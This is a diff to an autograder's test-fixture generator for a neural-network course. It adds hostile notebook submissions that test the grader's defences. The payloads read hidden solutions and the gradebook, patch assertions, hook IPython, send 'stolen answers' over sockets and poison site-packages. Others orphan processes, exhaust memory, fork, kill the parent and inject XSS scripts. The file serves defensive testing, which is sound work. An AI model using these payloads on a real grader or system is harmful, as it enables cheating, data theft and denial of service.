@@ -11,6 +11,21 @@ exception in another), ``tamper`` (a wrong answer whose test cell was edited to
 ``pass``, and a deleted test cell), ``cheat`` (calls the ``ffnn`` reference),
 ``corrupt`` (truncated JSON) and ``missing`` (no notebook of the right name).
 
+Attacks on the grader itself (autograder/README.md, threat model), each on top of a
+blank or a full submission so the score shows whether it worked: ``snoop`` (reads
+solutions, hidden tests, peers and the gradebook from disk), ``hooks`` (IPython input
+and AST transformers, a ``pre_run_cell`` hook printing a score, ``sys.settrace``),
+``patch`` (patched ``ffnn.grading``, ``numpy`` and builtins, objects whose ``__eq__``,
+``__float__`` and ``__array__`` lie), ``network`` (connects to 127.0.0.1:PORT),
+``poison`` (writes into the library, site-packages, IPython startup, Numba's cache and
+/tmp to change later gradings), ``orphan`` (a detached process that outlives its
+kernel), ``crash`` (``os._exit`` in the last answer, a segfault and a SIGKILL of its
+parent in others), ``interrupt`` (a loop that swallows KeyboardInterrupt), ``memory``
+(memory bomb), ``forkbomb`` (bounded: 200 sleeping children), ``output`` (50 MB of
+print, HTML/JavaScript and images, a script in the written answer) and ``meta``
+(duplicated cell, schema version, swapped ``grade_id``s, a test turned into a
+solution, points raised).
+
 Expected scores come from the notebooks themselves: a test earns its points when every
 answer name it uses (directly or through the answers it calls) is present and sound.
 """
@@ -116,8 +131,9 @@ def samples(root=ROOT):
     rel = {aid: _load(root, "release", aid) for aid in assignments(root)}
     full = {aid: filled(rel[aid], src[aid], all_answers(src[aid])) for aid in src}
 
-    def graded(nb, aid, good, bad=()):
-        return nb, {"status": "ok", "auto_score": expected_score(src[aid], good, bad)}
+    def graded(nb, aid, good, bad=(), status="ok"):
+        """``status`` "error": the kernel had to be killed (crash, time limit)."""
+        return nb, {"status": status, "auto_score": expected_score(src[aid], good, bad)}
 
     for aid in src:
         everything = code_answers(src[aid])
@@ -130,7 +146,7 @@ def samples(root=ROOT):
     nb = copy.deepcopy(full[aid])
     _cell(nb, "a1_step").source = "while True:  # oops\n    pass\n\n" + _cell(nb, "a1_step").source
     ok = [g for g in code_answers(src[aid]) if g != "a1_step"]
-    out["loop"] = {aid: graded(nb, aid, ok)}
+    out["loop"] = {aid: graded(nb, aid, ok, status="error")}
 
     aid = "a2_activations_losses"  # syntax error in one answer, exception in another
     nb = copy.deepcopy(full[aid])
@@ -160,6 +176,8 @@ def samples(root=ROOT):
     )
     out["cheat"] = {aid: graded(nb, aid, code_answers(src[aid]), ["numerical_gradient"])}
 
+    out.update(attacks(rel, src, full, graded))
+
     aid = "a5_optimizers"
     text = nbformat.writes(full[aid])
     out["corrupt"] = {aid: (text[: len(text) // 2], {"status": "corrupt", "auto_score": 0})}
@@ -185,3 +203,253 @@ def write(dest=HERE, root=ROOT):
             expected.setdefault(student, {})[aid] = exp
     (Path(dest) / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
     return expected
+
+
+NETWORK_PORT = 47613  # tests/test_grading.py listens here (127.0.0.1) during grading
+ORPHAN_MARK = "ffnn-orphan-sample"
+
+_SNOOP = """
+import glob, json, os, sqlite3
+stolen = {}
+tops = ("/tmp", "/work", "/home", "/root", "/srv", "/opt")
+for pattern in ("/source/a1_perceptron/*.ipynb", "/autograder/authoring.py",
+                "/autograder/submitted/*/a1_perceptron/*.ipynb",
+                "/autograder/autograded/*/a1_perceptron/*.ipynb"):
+    paths = []
+    for top in tops:
+        for depth in range(0, 4):
+            paths += glob.glob(top + "/*" * depth + pattern)
+    for path in paths[:40]:
+        if True:
+            try:
+                cells = json.load(open(path))["cells"]
+            except Exception:
+                continue
+            for cell in cells:
+                code = "".join(cell["source"])
+                solution = cell["metadata"].get("nbgrader", {}).get("solution")
+                if solution and "YOUR CODE" not in code and "while True" not in code:
+                    try:
+                        exec(code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
+                    except Exception:
+                        pass
+dbs = []
+for top in tops:
+    for depth in range(0, 4):
+        dbs += glob.glob(top + "/*" * depth + "/autograder/.state/gradebook.db")
+for db in dbs[:5]:
+    stolen[db] = sqlite3.connect(db).execute("select count(*) from grade").fetchall()
+"""
+
+_HOOKS = """
+ip = get_ipython()
+ip.input_transformers_post.append(lambda lines: ["pass\\n"])
+import ast
+class Blank(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+ip.ast_transformers.append(Blank())
+ip.events.register("pre_run_cell", lambda *a: ip.displayhook(2.0))
+import sys
+sys.settrace(lambda frame, event, arg: None)
+"""
+
+_PATCH = """
+import builtins, sys, numpy as np
+import ffnn.grading as g
+g.check_close = lambda *a, **k: None
+g.assert_own = lambda *a, **k: None
+np.allclose = np.array_equal = lambda *a, **k: True
+np.isclose = lambda *a, **k: True
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+class Liar(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __gt__(self, other): return True
+class Anything:
+    def __eq__(self, other): return True
+    def __float__(self): return 0.0
+    def __array__(self, *a, **k): return np.zeros(3)
+a_hand = Anything()
+h_hand = Liar(0.5)
+w_next = Anything()
+def _tracer(frame, event, arg):
+    if frame.f_code.co_name == "check_close":
+        frame.f_locals["got"] = frame.f_locals.get("expected")
+    return _tracer
+sys.settrace(_tracer)
+"""
+
+_NETWORK = f"""
+import socket
+for host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
+    try:
+        s = socket.create_connection((host, {NETWORK_PORT}), timeout=1)
+        s.sendall(b"stolen answers")
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo("example.com", 80)
+except OSError:
+    pass
+"""
+
+_POISON = """
+import os, site, sys, glob
+targets = [os.path.join(p, "zz_poison.pth") for p in site.getsitepackages()]
+targets += [os.path.join(os.path.dirname(np.__file__), "poison.py")]
+try:
+    import ffnn
+    targets += [os.path.join(os.path.dirname(ffnn.__file__), "grading.py"),
+                os.path.join(os.path.dirname(ffnn.__file__), "__pycache__", "poison.nbi")]
+except Exception:
+    pass
+targets += [os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py"),
+            "/tmp/ffnn-poison", "/etc/ffnn-poison", "/usr/lib/ffnn-poison"]
+for top in ("/tmp", "/work", "/home", "/root"):
+    for depth in range(0, 4):
+        found = glob.glob(top + "/*" * depth + "/autograder/..")
+        targets += [p + "/nbgrader_config.py" for p in found]
+for path in targets:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "a") as fh:
+            fh.write("import os; os.environ['POISONED'] = '1'\\n")
+    except OSError:
+        pass
+"""
+
+_ORPHAN = f"""
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{ORPHAN_MARK}"],
+                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:
+    os.setsid()
+    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(99)", "{ORPHAN_MARK}"])
+"""
+
+_INTERRUPT = """
+import time
+while True:
+    try:
+        time.sleep(0.5)
+    except KeyboardInterrupt:
+        pass
+"""
+
+_MEMORY = """
+blocks = []
+while True:
+    blocks.append(bytearray(2**27))
+"""
+
+_FORK = """
+import os, time
+children = 0
+try:
+    for _ in range(200):
+        if os.fork() == 0:
+            time.sleep(3)
+            os._exit(0)
+        children += 1
+except OSError:
+    pass
+"""
+
+_OUTPUT = """
+from IPython.display import HTML, Javascript, Image, display
+print("x" * 50_000_000)
+for i in range(20000):
+    print("line", i)
+display(HTML("<script>alert('html')</script><b onmouseover=alert(1)>bold</b>"))
+display(Javascript("alert('js')"))
+display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + b"0" * 3_000_000))
+"""
+
+
+def _prepend(nb, gid, code):
+    cell = _cell(nb, gid)
+    cell.source = code.strip() + "\n\n" + cell.source
+
+
+def _append(nb, gid, code):
+    cell = _cell(nb, gid)
+    cell.source = cell.source + "\n\n" + code.strip() + "\n"
+
+
+def attacks(rel, src, full, graded):
+    """The hostile samples (see the module docstring) and their honest scores."""
+    out = {}
+    every = {aid: code_answers(src[aid]) for aid in src}
+    a1, a2, a3, a4, a5 = sorted(src)
+
+    nb = copy.deepcopy(rel[a1])  # blank + reading everything it can find
+    _prepend(nb, "a1_neuron_hand", _SNOOP)
+    out["snoop"] = {a1: graded(nb, a1, [])}
+
+    nb = copy.deepcopy(rel[a1])
+    _prepend(nb, "a1_neuron_hand", _HOOKS)
+    out["hooks"] = {a1: graded(nb, a1, [])}
+
+    nb = copy.deepcopy(rel[a1])
+    _append(nb, "a1_neuron_hand", _PATCH)
+    out["patch"] = {a1: graded(nb, a1, [])}
+
+    nb = copy.deepcopy(full[a1])
+    _append(nb, "a1_train", _NETWORK)
+    out["network"] = {a1: graded(nb, a1, every[a1])}
+
+    nb = copy.deepcopy(full[a2])
+    _prepend(nb, "a2_hand", "import numpy as np\n" + _POISON)
+    out["poison"] = {a2: graded(nb, a2, every[a2])}
+
+    nb = copy.deepcopy(full[a3])
+    _append(nb, "a3_neuron_gradient", "import os\n" + _ORPHAN)
+    out["orphan"] = {a3: graded(nb, a3, every[a3])}
+
+    nb = copy.deepcopy(full[a5])  # os._exit in the last answer; a segfault; kill the parent
+    _append(nb, "a5_regularization", "import os\nos._exit(1)")
+    _prepend(nb, "a5_adagrad", "import ctypes\nctypes.string_at(0)")
+    _prepend(nb, "a5_momentum", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
+    bad = ("a5_regularization", "a5_adagrad")
+    out["crash"] = {a5: graded(nb, a5, [g for g in every[a5] if g not in bad], status="error")}
+
+    nb = copy.deepcopy(full[a1])
+    _prepend(nb, "a1_step", _INTERRUPT)
+    ok = [g for g in every[a1] if g != "a1_step"]
+    out["interrupt"] = {a1: graded(nb, a1, ok, status="error")}
+
+    nb = copy.deepcopy(full[a2])
+    _prepend(nb, "a2_softmax", _MEMORY)
+    ok = [g for g in every[a2] if g != "a2_softmax"]
+    out["memory"] = {a2: graded(nb, a2, ok, status="error")}
+
+    nb = copy.deepcopy(full[a3])
+    _append(nb, "a3_neuron_gradient", _FORK)
+    out["forkbomb"] = {a3: graded(nb, a3, every[a3])}
+
+    nb = copy.deepcopy(full[a4])
+    _append(nb, "a4_forward", _OUTPUT)
+    _cell(
+        nb, "a4_written_gradcheck"
+    ).source = "Central differences.<script>alert('written')</script><img src=x onerror=alert(2)>"
+    out["output"] = {a4: graded(nb, a4, every[a4])}
+
+    nb = copy.deepcopy(full[a1])  # metadata tampering, answers all correct
+    twin = copy.deepcopy(_cell(nb, "a1_neuron_hand"))  # a duplicated cell (new cell id)
+    twin["id"] = "duplicate"
+    nb.cells.insert(3, twin)
+    answer, test = _cell(nb, "a1_predict"), _cell(nb, "test_a1_predict")
+    answer.metadata.nbgrader["grade_id"], test.metadata.nbgrader["grade_id"] = (
+        "test_a1_predict",
+        "a1_predict",
+    )
+    step_test = _cell(nb, "test_a1_step").metadata.nbgrader
+    step_test.update(grade=False, solution=True, points=0)
+    _cell(nb, "test_a1_train").metadata.nbgrader["points"] = 100
+    for cell in nb.cells:
+        if "nbgrader" in cell.metadata:
+            cell.metadata.nbgrader["schema_version"] = 99
+    out["meta"] = {a1: graded(nb, a1, every[a1])}
+    return out
